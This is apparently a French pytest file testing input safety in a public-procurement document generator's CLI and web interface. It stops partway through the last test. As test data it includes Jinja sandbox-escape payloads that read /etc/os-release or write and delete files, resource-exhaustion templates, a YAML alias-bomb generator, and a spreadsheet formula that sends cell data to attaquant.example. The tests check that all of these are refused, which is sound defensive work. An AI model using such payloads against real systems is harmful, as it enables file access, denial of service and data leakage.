"""Sûreté des entrées (issue 21, revue robustesse-2026-12) : le bac à sable tient, les entrées piégées sont
refusées avec un message clair et le code 2, sans rien écrire, en un temps et une mémoire bornés.

Chaque test reproduit un défaut de la revue (numéro entre parenthèses) par la commande réelle, appelée dans le
processus (CliRunner) : code de sortie, message lu par l'utilisateur, fichiers présents ou absents.
"""

from __future__ import annotations

import copy
import datetime as dt
import os
import resource
import shutil
import tempfile
import time
import zipfile
from collections import Counter
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from lxml import etree

from conftest import soffice, EXEMPLES, RACINE, ecrire, joindre_pieces_des_exemples, reponses
from generateur.donnees import catalogue as module_catalogue
from generateur.interfaces.cli import main
from test_robustesse import _copie_catalogue


def dce(*arguments: str | Path) -> tuple[int, str]:
    """Lance `dce …` dans le processus : code de sortie et tout ce qu'a vu l'utilisateur."""
    resultat = CliRunner().invoke(main, [str(a) for a in arguments])
    assert resultat.exit_code != 3 and "Traceback" not in resultat.output, resultat.output
    assert not isinstance(resultat.exception, Exception) or isinstance(resultat.exception, SystemExit), \
        resultat.exception
    return resultat.exit_code, resultat.output


def copie_catalogue(tmp_path: Path) -> Path:
    racine = _copie_catalogue(tmp_path)
    module_catalogue.charger.cache_clear()
    return racine


def ajouter(fichier: Path, avant: str, apres: str) -> None:
    texte = fichier.read_text(encoding="utf-8")
    assert avant in texte, avant
    fichier.write_text(texte.replace(avant, apres, 1), encoding="utf-8")


EXEMPLE = EXEMPLES / "travaux-lycee.yaml"


# --- 1. le bac à sable ne touche pas au système ------------------------------------------------------------

ATTAQUES = {
    "ecrire": '{{ param.catalogue.racine.joinpath("../ecrit-par-une-clause.txt").write_text("x") }}',
    "lire": "{{ param.catalogue.racine.joinpath('/etc/os-release').read_text() }}",
    "supprimer": '{{ param.catalogue.racine.joinpath("../temoin.txt").unlink() }}',
    "attribut interne": "{{ param._catalogue.racine }}",
    "methode de la fonction": "{{ param.__call__.__self__ }}",
    "renvoi": "{{ article.__globals__ }}",
    "modifier les reponses": "{{ lots.clear() }}{{ lots|length }}",
}


@pytest.mark.parametrize("attaque", list(ATTAQUES))
def test_clause_piegee_ne_lit_ni_n_ecrit_ni_ne_supprime(tmp_path, attaque):
    racine = copie_catalogue(tmp_path)
    temoin = tmp_path / "temoin.txt"
    temoin.write_text("intact", encoding="utf-8")
    clause = racine / "clauses" / "ccap" / "ccap-prix.md"
    clause.write_text(clause.read_text(encoding="utf-8") + "\nSECRET[" + ATTAQUES[attaque] + "]\n", encoding="utf-8")
    code, sortie = dce("--catalogue", racine, "generer", EXEMPLE, "--sortie", tmp_path / "s")
    assert code == 2, sortie
    assert "ccap-prix" in sortie and ("bac à sable" in sortie or "donnée absente" in sortie), sortie
    assert not (tmp_path / "ecrit-par-une-clause.txt").exists()
    assert temoin.read_text(encoding="utf-8") == "intact"
    assert "PRETTY_NAME" not in sortie
    assert not (tmp_path / "s").exists()


def test_condition_et_calcul_pieges_refuses_et_signales(tmp_path):
    racine = copie_catalogue(tmp_path)
    ajouter(racine / "clauses" / "ccap" / "ccap-prix.md", 'condition: "true"',
            "condition: \"param.catalogue.racine.joinpath('../par-une-condition.txt').write_text('x')\"")
    ajouter(racine / "catalogue.yaml", "expression: \"lots | length > 1\"",
            "expression: \"(lots | length > 1) and param.catalogue.racine.joinpath('../par-un-calcul.txt')"
            ".write_text('x') != 0\"")
    code, sortie = dce("--catalogue", racine, "generer", EXEMPLE, "--sortie", tmp_path / "s")
    assert code == 2 and "allotie" in sortie, sortie
    code, sortie = dce("--catalogue", racine, "catalogue", "verifier")
    assert code == 2
    assert "ccap-prix.md" in sortie and "catalogue.yaml" in sortie and "accès interdit à « catalogue »" in sortie, sortie
    assert not list(tmp_path.glob("par-un*.txt")) and not (tmp_path / "s").exists()


def test_catalogue_verifier_signale_l_evasion_dans_une_clause(tmp_path):
    racine = copie_catalogue(tmp_path)
    clause = racine / "clauses" / "ccap" / "ccap-prix.md"
    texte = clause.read_text(encoding="utf-8")
    clause.write_text(texte + "\n{{ param.catalogue.racine.joinpath('x').write_text('x') }}\n", encoding="utf-8")
    code, sortie = dce("--catalogue", racine, "catalogue", "verifier")
    assert code == 2
    ligne = texte.count("\n") + 2
    assert f"ccap-prix.md, ligne {ligne}" in sortie and "accès interdit à « write_text »" in sortie, sortie


def test_le_contexte_des_modeles_ne_contient_que_des_donnees():
    """Revue de tout ce qu'une clause reçoit : des données, ou des fonctions dont aucun attribut n'est lisible."""
    import datetime as dt

    from generateur.droit.expressions import ENV_CLAUSES, ErreursJinja
    from generateur.droit.regles import contexte_clause, preparer

    analyse = preparer(EXEMPLE, RACINE)
    selection = next(s for s in analyse.selections if s.retenue)
    donnees = (dict, list, tuple, str, int, float, dt.date, type(None))

    def parcourir(valeur, chemin):
        if isinstance(valeur, dict):
            for k, v in valeur.items():
                yield from parcourir(v, f"{chemin}.{k}")
        elif isinstance(valeur, (list, tuple)):
            for i, v in enumerate(valeur):
                yield from parcourir(v, f"{chemin}.{i}")
        else:
            yield chemin, valeur

    contexte = contexte_clause(analyse, selection)
    fonctions = []
    for chemin, valeur in parcourir(contexte, ""):
        if not isinstance(valeur, donnees):
            assert callable(valeur), (chemin, type(valeur))
            fonctions.append(chemin.lstrip("."))
    assert sorted(fonctions) == ["action", "article", "param", "renvoi", "retenue", "texte_technique"]
    for nom in fonctions:
        for attribut in ("catalogue", "_catalogue", "lus", "__self__", "__globals__", "__closure__", "__dict__"):
            with pytest.raises(ErreursJinja):
                ENV_CLAUSES.from_string(f"{{{{ {nom}.{attribut}.x }}}}").render(contexte)


# --- 11. bornes de temps et de taille au rendu et aux règles ----------------------------------------------

PIEGES_CLAUSE = {
    "boucles imbriquées": "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}",
    "boucles sur une liste multipliée": "{% for a in lots * 1000 %}{% for b in lots * 1000 %}{% for c in lots * 1000 %}"
                                        "{% endfor %}{% endfor %}{% endfor %}",
    "puissance": "{{ 9**(9**9) }}",
    "texte énorme": "{{ 'x' * 10**9 }}",
    "liste énorme": "{{ ('x' * 10**6) * 10**4 }}",
    "sortie énorme": "{{ 'x' | center(10**8) }}",
    "macro récursive": "{% macro m(n) %}{{ m(n) }}{% endmacro %}{{ m(1) }}",
}


@pytest.mark.parametrize("piege", list(PIEGES_CLAUSE))
def test_clause_sans_fin_ou_enorme_arretee_et_nommee(tmp_path, monkeypatch, piege):
    from generateur.droit import expressions

    monkeypatch.setattr(expressions, "LIMITE_SECONDES", 1.0)  # 5 s en vrai : le test n'attend pas pour rien
    racine = copie_catalogue(tmp_path)
    clause = racine / "clauses" / "ccap" / "ccap-prix.md"
    clause.write_text(clause.read_text(encoding="utf-8") + "\n" + PIEGES_CLAUSE[piege] + "\n", encoding="utf-8")
    debut = time.monotonic()
    code, sortie = dce("--catalogue", racine, "generer", EXEMPLE, "--sortie", tmp_path / "s")
    assert time.monotonic() - debut < 30
    assert code == 2 and "ccap-prix" in sortie and "limite du bac à sable dépassée" in sortie, sortie
    assert not (tmp_path / "s").exists()


@pytest.mark.parametrize("condition", ["9**(9**9) > 0", "(lots|length + 8)**(9**9) > 0"])
def test_regle_sans_fin_arretee_et_nommee(tmp_path, condition):
    racine = copie_catalogue(tmp_path)
    ajouter(racine / "clauses" / "ccap" / "ccap-prix.md", 'condition: "true"', f'condition: "{condition}"')
    debut = time.monotonic()
    code, sortie = dce("--catalogue", racine, "generer", EXEMPLE, "--sortie", tmp_path / "s")
    assert code == 2 and "ccap-prix" in sortie and "puissance trop grande" in sortie, sortie
    code, sortie = dce("--catalogue", racine, "catalogue", "verifier")
    assert time.monotonic() - debut < 30
    assert not (tmp_path / "s").exists()


def test_clause_ordinaire_non_bornee():
    """Les bornes ne gênent pas les calculs réels : puissances et produits usuels, boucles courtes."""
    from generateur.droit.expressions import ENV_EXPRESSIONS, evaluer

    assert evaluer("2 ** 10 + 1.05 ** 12 > 1025", {}) is True
    assert ENV_EXPRESSIONS.from_string("{% for i in range(3) %}{{ i * 2 }}{% endfor %}{{ '-' * 3 }}").render() == "024---"


def test_lecture_directe_des_dictionnaires_comme_le_bac_a_sable_de_jinja():
    """`BacASable.getattr` lit directement l'élément d'un dictionnaire (`lot.montant`) : même résultat que
    `SandboxedEnvironment.getattr` pour un élément, un élément absent, un nom de méthode de dict (la méthode, ou son
    refus si elle modifie), un nom commençant par « _ »."""
    from jinja2 import Undefined
    from jinja2.sandbox import ImmutableSandboxedEnvironment

    from generateur.droit.expressions import ENV_CLAUSES, ENV_EXPRESSIONS

    lot = {"montant": 5, "items": 1, "_cache": 2, "pop": 7, "": 3}
    for env in (ENV_EXPRESSIONS, ENV_CLAUSES):
        for nom in ("montant", "absent", "items", "get", "keys", "pop", "update", "clear", "_cache", "__class__",
                    "__len__", ""):
            obtenu, attendu = env.getattr(lot, nom), ImmutableSandboxedEnvironment.getattr(env, lot, nom)
            assert type(obtenu) is type(attendu), nom
            if isinstance(attendu, Undefined):
                assert obtenu._undefined_message == attendu._undefined_message, nom
            else:
                assert obtenu == attendu, nom


def test_echappement_markdown_texte_sans_caractere_a_traiter_rendu_tel_quel():
    """`echapper_markdown` rend tel quel un texte sans caractère de `_A_TRAITER` : chaque caractère qui n'y est pas
    passe inchangé les étapes de l'échappement (contrôles retirés, lignes jointes, & et <, caractères de Markdown)."""
    from generateur.droit import expressions

    for code in range(0x3100):
        c = chr(code)
        if expressions._A_TRAITER.search(c) is None:
            texte = f"a{c}b"
            assert expressions._CONTROLES.sub("", texte) == texte and "\n" not in texte, code
            assert texte.replace("&", "&amp;").replace("<", "&lt;") == texte, code
            assert expressions._ECHAPPER.sub(r"\\\1", texte) == texte, code
    assert expressions.echapper_markdown("Lycée Jean Moulin") == "Lycée Jean Moulin"
    assert expressions.echapper_markdown("1 450 000,00 € HT") == "1 450 000,00 € HT"
    assert expressions.echapper_markdown("a*b\n c <d> & e.") == "a\\*b c &lt;d\\> &amp; e\\."


def test_minuterie_d_un_lot_borne_chaque_evaluation(monkeypatch):
    """Dans un lot d'évaluations, la minuterie armée une fois borne chaque évaluation depuis son propre début : une
    évaluation commencée peu avant l'échéance n'est pas coupée, une évaluation trop longue l'est, même après une
    pause ou une autre coupure ; à la sortie du lot, la minuterie est désarmée."""
    import signal

    from generateur.droit import expressions
    from generateur.droit.expressions import LimiteDepassee, evaluer, lot_d_evaluations

    monkeypatch.setattr(expressions, "LIMITE_SECONDES", 1.0)
    contexte = {"dormir": time.sleep}
    with lot_d_evaluations():
        assert evaluer("1 + 1", contexte) == 2  # arme la minuterie : échéance dans 1 s
        time.sleep(0.9)  # hors évaluation
        assert evaluer("dormir(0.3) is none", contexte)  # l'échéance tombe pendant l'évaluation, commencée il y a 0,1 s
        time.sleep(1.2)  # l'échéance tombe hors évaluation : la minuterie s'éteint
        assert evaluer("dormir(0.1) is none", contexte)
        for _ in range(2):  # coupée, puis coupée encore : la minuterie est réarmée après une coupure
            debut = time.monotonic()
            with pytest.raises(LimiteDepassee, match="calcul trop long"):
                evaluer("dormir(3) is none", contexte)
            assert time.monotonic() - debut < 2
    assert signal.getitimer(signal.ITIMER_REAL) == (0.0, 0.0)


# --- 2, 17. bombe d'alias, lecture sans fin, très grands entiers ---------------------------------------------

def bombe(niveaux: int = 9, fusion: bool = False) -> str:
    """342 octets qui demanderaient 9**9 éléments (ou la même chose par des clés de fusion « << »)."""
    if fusion:
        texte = "a: &a {x: 1, y: 2}\n"
        modele = "{c}: &{c} {{<<: [{alias}]}}\n"
    else:
        texte = "a: &a [" + ",".join(['"lol"'] * 9) + "]\n"
        modele = "{c}: &{c} [{alias}]\n"
    for p, c in zip("abcdefghijkl", "bcdefghijklm"[:niveaux - 1]):
        texte += modele.format(c=c, alias=",".join(["*" + p] * 9))
    return texte


@pytest.mark.parametrize("fusion", [False, True], ids=["listes", "fusions"])
def test_bombe_d_alias_refusee_vite_et_sans_memoire(tmp_path, fusion):
    from generateur.donnees import yaml_lignes
    from generateur.erreurs import ErreurDonnees

    fichier = tmp_path / "rires.yaml"
    fichier.write_text(bombe(fusion=fusion), encoding="utf-8")
    memoire = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    debut = time.process_time()
    with pytest.raises(ErreurDonnees) as exc:
        yaml_lignes.lire(fichier)
    assert time.process_time() - debut < 1
    assert (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - memoire) * 1024 < 100 * 2**20
    assert "trop d'éléments repris par des alias" in str(exc.value)
    code, sortie = dce("generer", fichier, "--sortie", tmp_path / "s")
    assert code == 2 and "alias" in sortie and not (tmp_path / "s").exists()


def test_bombe_dans_le_catalogue_et_dans_une_clause(tmp_path):
    racine = copie_catalogue(tmp_path)
    with (racine / "catalogue.yaml").open("a", encoding="utf-8") as f:
        f.write("bombe:\n" + "".join("  " + l + "\n" for l in bombe().splitlines()))
    code, sortie = dce("--catalogue", racine, "generer", EXEMPLE, "--sortie", tmp_path / "s")
    assert code == 2 and "catalogue.yaml" in sortie and "alias" in sortie, sortie
    code, sortie = dce("--catalogue", racine, "catalogue", "verifier")
    assert code == 2 and "alias" in sortie, sortie


def test_bombe_d_alias_reprise_dans_le_navigateur(tmp_path):
    """« Reprendre un fichier » passe par le même chargeur : 422 en français, vite, sans occuper le serveur."""
    import io
    import re

    pytest.importorskip("flask")
    from generateur.interfaces.web import create_app

    client = create_app(RACINE, tmp_path / "consultations").test_client()
    jeton = re.search(r'name="_csrf" value="([^"]+)"', client.get("/").get_data(as_text=True)).group(1)
    debut = time.process_time()
    reponse = client.post("/reprendre", data={"_csrf": jeton, "fichier": (io.BytesIO(bombe().encode()), "rires.yaml")},
                          content_type="multipart/form-data")
    assert time.process_time() - debut < 2
    assert reponse.status_code == 422 and "trop d&#39;éléments repris par des alias" in reponse.get_data(as_text=True)
    assert not list((tmp_path / "consultations").glob("*/reponses.yaml"))


def test_alias_raisonnables_toujours_acceptes():
    from generateur.donnees import yaml_lignes

    doc = yaml_lignes.lire_texte("base: &b {tva: 20, unite: m2}\nlot:\n  <<: *b\n  tva: 10\nautre: *b\n", "r.yaml")
    assert doc.donnees["lot"] == {"tva": 10, "unite": "m2"} and doc.donnees["autre"] == {"tva": 20, "unite": "m2"}
    assert doc.ligne("lot.tva") == 4


def test_lecture_bornee_de_dev_zero_et_d_un_tube(tmp_path):
    code, sortie = dce("verifier", "/dev/zero")
    assert code == 2 and "trop volumineux" in sortie
    import os
    import threading

    tube = tmp_path / "tube.yaml"
    os.mkfifo(tube)

    def remplir():
        with open(tube, "wb") as f:
            try:
                for _ in range(50):
                    f.write(b"#" * 2**20)
            except BrokenPipeError:
                pass

    fil = threading.Thread(target=remplir)
    fil.start()
    code, sortie = dce("verifier", tube)
    fil.join(timeout=10)
    assert code == 2 and "trop volumineux" in sortie


def test_entier_de_5000_chiffres(tmp_path):
    texte = EXEMPLE.read_text(encoding="utf-8").replace("duree_mois: 18", "duree_mois: " + "9" * 5000, 1)
    fichier = tmp_path / "r.yaml"
    joindre_pieces_des_exemples(tmp_path)
    fichier.write_text(texte, encoding="utf-8")
    code, sortie = dce("generer", fichier, "--sortie", tmp_path / "s")
    assert code == 2 and "nombre trop long (5000 chiffres" in sortie and "« duree_mois »" in sortie, sortie
    assert not (tmp_path / "s").exists()


# --- 4. dates inexistantes ------------------------------------------------------------------------------

@pytest.mark.parametrize("champ, date", [
    ("date_lancement", "2026-02-30"), ("date_lancement", "2026-13-01"), ("date_lancement", "0000-01-01"),
    ("date_limite_offres", "0000-01-01T00:00:00"),
])
def test_date_inexistante_non_guillemetee(tmp_path, champ, date):
    lignes = EXEMPLE.read_text(encoding="utf-8").splitlines()
    numero = next(i for i, l in enumerate(lignes) if l.startswith(champ + ":"))
    lignes[numero] = f"{champ}: {date}"
    fichier = tmp_path / "r.yaml"
    joindre_pieces_des_exemples(tmp_path)
    fichier.write_text("\n".join(lignes) + "\n", encoding="utf-8")
    code, sortie = dce("generer", fichier, "--sortie", tmp_path / "s")
    assert code == 2, sortie
    assert f"r.yaml, ligne {numero + 1} : « {champ} » : date inexistante « {date} »" in sortie, sortie
    assert not (tmp_path / "s").exists()


def test_date_inexistante_dans_le_catalogue_et_une_clause(tmp_path):
    racine = copie_catalogue(tmp_path)
    ajouter(racine / "clauses" / "ccap" / "ccap-prix.md", "en_vigueur: {du: 2019-04-01}", "en_vigueur: {du: 2026-02-30}")
    ajouter(racine / "catalogue.yaml", "{du: 2020-01-01, au: 2021-12-31", "{du: 2026-13-45, au: 2021-12-31")
    for commande in (["generer", EXEMPLE, "--sortie", tmp_path / "s"], ["catalogue", "verifier"]):
        code, sortie = dce("--catalogue", racine, *commande)
        assert code == 2, sortie
        assert "date inexistante « 2026-13-45 »" in sortie and "catalogue.yaml, ligne" in sortie, sortie
    code, sortie = dce("--catalogue", racine, "catalogue", "verifier")
    assert "ccap-prix.md, ligne 4" in sortie and "date inexistante « 2026-02-30 »" in sortie, sortie


# --- 14. zéros initiaux : décimal, jamais octal -----------------------------------------------------------

def test_zeros_initiaux_lus_en_decimal(tmp_path):
    from conftest import Lu

    texte = EXEMPLE.read_text(encoding="utf-8").replace("duree_mois: 18", "duree_mois: 024", 1)
    texte = texte.replace("montant_estime: 1450000", "montant_estime: 01450000", 1)
    fichier = tmp_path / "r.yaml"
    joindre_pieces_des_exemples(tmp_path)
    fichier.write_text(texte, encoding="utf-8")
    code, sortie = dce("generer", fichier, "--sortie", tmp_path / "s")
    assert code in (0, 1), sortie
    rc, ccap = (Lu(next((tmp_path / "s").glob(f"*-{piece}.docx"))) for piece in ("RC", "CCAP"))
    assert "délai global de 24\u00a0mois" in ccap.tout and "20\u00a0mois" not in ccap.tout  # délai global des travaux
    assert "1\u00a0450\u00a0000" in ccap.tout


def test_duree_sexagesimale_refusee(tmp_path):
    texte = EXEMPLE.read_text(encoding="utf-8").replace("duree_mois: 18", "duree_mois: 1:30", 1)
    fichier = tmp_path / "r.yaml"
    joindre_pieces_des_exemples(tmp_path)
    fichier.write_text(texte, encoding="utf-8")
    code, sortie = dce("generer", fichier, "--sortie", tmp_path / "s")
    message = sortie.replace(str(fichier), "")  # le chemin du dossier temporaire peut contenir « 90 »
    assert code == 2 and "Durée du marché (en mois)" in message and "« 1:30 »" in message, sortie
    assert "90" not in message, sortie  # jamais lu comme 1 h 30 min = 90 (YAML 1.1 sexagésimal)


# --- 16. messages de l'analyseur en français ----------------------------------------------------------------

@pytest.mark.parametrize("texte, attendu", [
    ("objet: " + "[" * 5000 + "]" * 5000, "imbrication trop profonde"),
    ('objet: "\\ud800"', "séquence d'échappement Unicode invalide"),
    ('objet: "\\ud83c\\udf31"', "séquence d'échappement Unicode invalide"),
])
def test_messages_de_l_analyseur_en_francais(texte, attendu):
    from generateur.donnees import yaml_lignes
    from generateur.erreurs import ErreurDonnees

    with pytest.raises(ErreurDonnees) as exc:
        yaml_lignes.lire_texte(texte, "r.yaml")
    assert attendu in str(exc.value) and "analyseur" not in str(exc.value), str(exc.value)


def _commandes(groupe, chemin=()):
    """Chemins de toutes les commandes de `dce` (« serveur », « cpv chercher »…)."""
    import click

    contexte = click.Context(groupe)
    for nom in groupe.list_commands(contexte):  # commandes chargées à la demande : par l'interface de click
        commande = groupe.get_command(contexte, nom)
        yield (*chemin, nom)
        if isinstance(commande, click.Group):
            yield from _commandes(commande, (*chemin, nom))


def test_aide_et_bornes_des_options_en_francais():
    """L'aide de chaque commande ne montre ni type de valeur ni intervalle en anglais (« TEXT », « INTEGER RANGE »,
    « x>=1 »), ni, pour un groupe (« dce base », « dce utilisateur »…), « COMMAND [ARGS] » ; une valeur hors bornes
    est refusée en français."""
    import re

    chemins = list(_commandes(main))
    assert ("serveur",) in chemins and ("cpv", "chercher") in chemins
    anglais = re.compile(r"\b(?:TEXT|INTEGER|RANGE|FLOAT|BOOLEAN|COMMAND|ARGS|required|default|env var)\b|\bx[<>]=?|[<>]=?x\b")
    aides, brutes = {}, {}
    for chemin in chemins:
        resultat = CliRunner().invoke(main, [*chemin, "--help"], terminal_width=200)
        assert resultat.exit_code == 0, (chemin, resultat.output)
        assert not anglais.search(resultat.output), (chemin, anglais.search(resultat.output), resultat.output)
        aides[chemin] = " ".join(resultat.output.split())
        brutes[chemin] = resultat.output
    assert "--jobs N" in aides[("regenerer",)] and "[au moins 1]" in aides[("regenerer",)]
    # espaces insécables avant « : » et « ; » (typographie française ; jamais en début de ligne quand l'aide se replie)
    assert "--port ENTIER" in aides[("serveur",)] and "[défaut\u00a0: 8000\u00a0; de 0 à 65535]" in brutes[("serveur",)]
    etroite = CliRunner().invoke(main, ["regenerer", "--help"], terminal_width=60).output
    assert "(défaut\u00a0:" in etroite and "machine\u00a0; avec" in etroite, etroite
    assert not re.search(r"^\s*[:;]", etroite, re.MULTILINE), etroite
    assert "--hote TEXTE" in aides[("serveur",)]
    assert "base [OPTIONS] COMMANDE [ARGUMENTS]..." in aides[("base",)]
    assert "[variable d'environnement : DCE_BASE ; défaut : sqlite:///equipe/dce.sqlite]" in aides[("utilisateur", "ajouter")]
    resultat = CliRunner().invoke(main, ["serveur", "--port", "70000"])
    assert resultat.exit_code == 2 and "70000 ne convient pas : de 0 à 65535 attendu." in resultat.output, resultat.output


def test_erreurs_de_ligne_de_commande_en_francais(tmp_path):
    """Une erreur de la ligne de commande nomme l'option, l'argument, la valeur ou le fichier entre guillemets
    français, et propose les commandes ou options proches en français (« Vouliez-vous dire … ? »), jamais « Did you
    mean » ni des apostrophes de Python."""
    import re

    import click

    attendus = {
        ("generer",): "Argument manquant « REPONSES ».",
        ("generr",): "Commande inconnue « generr ». Vouliez-vous dire « generer » ou « regenerer » ?",
        ("regenerer", "--job", "2"): "Option inconnue « --job ». Vouliez-vous dire « --jobs » ?",
        ("serveur", "--port", "abc"): "Valeur invalide pour « --port » : « abc » n'est pas un nombre valide.",
        ("regenerer", "--jobs", "0"): "Valeur invalide pour « -j » / « --jobs » : 0 ne convient pas : au moins 1 attendu.",
        ("serveur", "--port"): "L'option « --port » attend une valeur.",
        ("utilisateur", "ajouter", "x", "--role", "chef"): "Valeur invalide pour « --role » : « chef » ne fait pas "
                                                           "partie des valeurs possibles : « acheteur », « juriste », "
                                                           "« administrateur ».",
        ("generer", str(tmp_path / "absent.yaml")):
            f"Valeur invalide pour « REPONSES » : Fichier « {tmp_path / 'absent.yaml'} » introuvable.",
    }
    # l'option --base montre sa variable d'environnement : une erreur la nommerait aussi
    ajouter = main.get_command(click.Context(main), "utilisateur").get_command(click.Context(main), "ajouter")
    base, = [p for p in ajouter.params if p.name == "url"]
    assert base.get_error_hint(click.Context(ajouter)) == "« --base » (variable d'environnement : « DCE_BASE »)"
    for arguments, message in attendus.items():
        resultat = CliRunner().invoke(main, list(arguments))
        assert resultat.exit_code == 2, (arguments, resultat.output)
        assert message in resultat.output, (arguments, resultat.output)
        assert "Did you mean" not in resultat.output and not re.search(r"'[-\w/.]+'", resultat.output), resultat.output


# --- 3. caractères de contrôle dans un intitulé ----------------------------------------------------------

@pytest.mark.parametrize("caractere", ["\\v", "\\x01", "\\x7f", "\\f", "\\x85"])
def test_caractere_de_controle_ne_fausse_pas_le_verdict(tmp_path, caractere):
    from conftest import Lu

    texte = EXEMPLE.read_text(encoding="utf-8")
    texte = texte.replace('intitule: "Gros œuvre et démolition"', f'intitule: "Gros œuvre{caractere}et démolition"')
    fichier = tmp_path / "r.yaml"
    joindre_pieces_des_exemples(tmp_path)
    fichier.write_text(texte, encoding="utf-8")
    # sans --strict : les profils d'exemple ont des champs « à compléter », que --strict refuse à juste titre
    code, sortie = dce("generer", fichier, "--sortie", tmp_path / "s")
    assert code == 0 and "0\u00a0non conforme" in sortie and "NON CONFORME" not in sortie, sortie
    rc = Lu(next((tmp_path / "s").glob("*-RC.docx")))
    attendu = "Gros œuvreet démolition" if caractere in ("\\x01", "\\x7f") else "Gros œuvre et démolition"
    assert attendu in rc.tout


# --- 13. injection de formules dans le bordereau (xlsx) et l'annexe (CSV) -------------------------------------

FORMULES = ['=HYPERLINK("http://attaquant.example/?"&A1,"Voir")', "=1+1", "+1+1", "-2+3", "@SUM(A1:A2)"]


def test_designation_en_formule_reste_du_texte_dans_le_bordereau(tmp_path):
    import io

    from openpyxl import load_workbook

    from generateur.droit.regles import preparer
    from generateur.rendu import classeur_prix

    lignes = [{"designation": f, "unite": f, "quantite": 2} for f in FORMULES]
    donnees = reponses(prix={"forme": "forfaitaire"},
                       lots=[{"numero": 1, "intitule": "=1+2", "montant_estime": 120000, "lignes_prix": lignes},
                             {"numero": 2, "intitule": "Petites fournitures", "montant_estime": 60000}])
    bordereau = classeur_prix.produire(preparer(ecrire(tmp_path, donnees), RACINE))
    ws = load_workbook(io.BytesIO(bordereau.contenu))["Lot 1"]
    cellules = [c for ligne in ws.iter_rows() for c in ligne if c.value is not None]
    for formule in FORMULES:
        trouvees = [c for c in cellules if c.value == formule]
        assert len(trouvees) == 2 and all(c.data_type == "s" for c in trouvees), formule
    assert any(c.value == "Lot 1 – =1+2" for c in cellules)
    # les formules de dce restent des formules : montants et totaux se calculent
    actives = [c.value for c in cellules if c.data_type == "f"]
    assert any(str(v).startswith("=ROUND(D") for v in actives) and any(str(v).startswith("=SUM(") or "+" in str(v)
                                                                          for v in actives)
    assert not any("HYPERLINK" in str(v) for v in actives)


def test_cellules_du_csv_de_l_annexe_neutralisees(tmp_path):
    import csv

    donnees = reponses(objet=FORMULES[0], lots=[{"numero": 1, "intitule": "-2+3", "montant_estime": 120000},
                                                {"numero": 2, "intitule": "@SUM(A1:A2)", "montant_estime": 60000}])
    code, sortie = dce("generer", ecrire(tmp_path, donnees), "--sortie", tmp_path / "s")
    assert code in (0, 1), sortie
    texte = next((tmp_path / "s").glob("*-annexe-conformite.csv")).read_text(encoding="utf-8-sig")
    cellules = [c for ligne in csv.reader(texte.splitlines(), delimiter=";") for c in ligne]
    assert "'" + FORMULES[0] in cellules and "'-2+3" in cellules and "'@SUM(A1:A2)" in cellules
    assert not any(c[:1] in "=+-@" for c in cellules if c)


# --- 10. catalogue mal typé : fichier, ligne, code 2, et dce catalogue verifier le dit ------------------------

def _remplacer_section(fichier: Path, section: str, valeur: str) -> int:
    """Remplace une section de premier niveau d'un fichier YAML par `section: valeur` ; renvoie sa ligne."""
    lignes = fichier.read_text(encoding="utf-8").split("\n")
    debut = lignes.index(f"{section}:")
    fin = next(i for i in range(debut + 1, len(lignes)) if lignes[i][:1] not in ("", " ", "#"))
    fichier.write_text("\n".join(lignes[:debut] + [f"{section}: {valeur}"] + lignes[fin:]), encoding="utf-8")
    return debut + 1


@pytest.mark.parametrize("fichier, section, valeur, attendu", [
    ("catalogue.yaml", "parametres", "[]", "un ensemble de champs attendu (trouvé : une liste)"),
    ("catalogue.yaml", "documents", "texte", "un ensemble de champs attendu (trouvé : un texte « texte »)"),
    ("catalogue.yaml", "calculs", "texte", "un ensemble de champs attendu (trouvé : un texte « texte »)"),
    ("questionnaire.yaml", "sections", "texte", "une liste attendu (trouvé : un texte « texte »)"),
])
def test_section_mal_typee(tmp_path, fichier, section, valeur, attendu):
    racine = copie_catalogue(tmp_path)
    ligne = _remplacer_section(racine / fichier, section, valeur)
    message = f"{fichier}, ligne {ligne} : « {section} » : {attendu}"
    code, sortie = dce("--catalogue", racine, "generer", EXEMPLE, "--sortie", tmp_path / "s")
    assert code == 2 and message in sortie, sortie
    code, sortie = dce("--catalogue", racine, "catalogue", "verifier")
    assert code == 2 and message in sortie, sortie
    assert not (tmp_path / "s").exists()


@pytest.mark.parametrize("avant, apres, attendu", [
    ("version: 1", "version: [1, 2]", "ccap-prix.md, ligne 3 : « version » : un nombre entier attendu (trouvé : une liste)"),
    ('condition: "true"', 'condition: "lots |"', "condition de la clause « ccap-prix » impossible à évaluer"),
    ("references: [", "references: 12\nx: [", "« references » : une liste attendu (trouvé : un nombre entier « 12 »)"),
])
def test_en_tete_de_clause_mal_type(tmp_path, avant, apres, attendu):
    racine = copie_catalogue(tmp_path)
    ajouter(racine / "clauses" / "ccap" / "ccap-prix.md", avant, apres)
    code, sortie = dce("--catalogue", racine, "generer", EXEMPLE, "--sortie", tmp_path / "s")
    assert code == 2 and attendu in sortie, sortie
    code, sortie = dce("--catalogue", racine, "catalogue", "verifier")
    assert code == 2 and "ccap-prix.md" in sortie, sortie


def test_clause_binaire_et_taux_en_lettres(tmp_path):
    racine = copie_catalogue(tmp_path)
    (racine / "clauses" / "ccap" / "ccap-binaire.md").write_bytes(b"---\xff\xfe\x00\x01" * 50)
    ajouter(racine / "catalogue.yaml", "{du: 2022-01-01, au: 2023-12-31, valeur: 215000}",
            "{du: 2022-01-01, au: 2023-12-31, valeur: quinze}")
    code, sortie = dce("--catalogue", racine, "generer", EXEMPLE, "--sortie", tmp_path / "s")
    ligne = next(i for i, l in enumerate((racine / "catalogue.yaml").read_text(encoding="utf-8").splitlines(), 1)
                 if "valeur: quinze}" in l)
    assert code == 2 and "valeur « quinze » d'un autre type" in sortie and f"catalogue.yaml, ligne {ligne}" in sortie, sortie
    code, sortie = dce("--catalogue", racine, "catalogue", "verifier")
    assert code == 2 and "valeur « quinze » d'un autre type" in sortie, sortie
    (racine / "catalogue.yaml").write_text((RACINE / "catalogue.yaml").read_text(encoding="utf-8"), encoding="utf-8")
    module_catalogue.charger.cache_clear()
    for commande in (["generer", EXEMPLE, "--sortie", tmp_path / "s"], ["catalogue", "verifier"]):
        code, sortie = dce("--catalogue", racine, *commande)
        assert code == 2 and "ccap-binaire.md" in sortie and "non encodé en UTF-8" in sortie, sortie
    assert not (tmp_path / "s").exists()


def test_modele_word_corrompu(tmp_path):
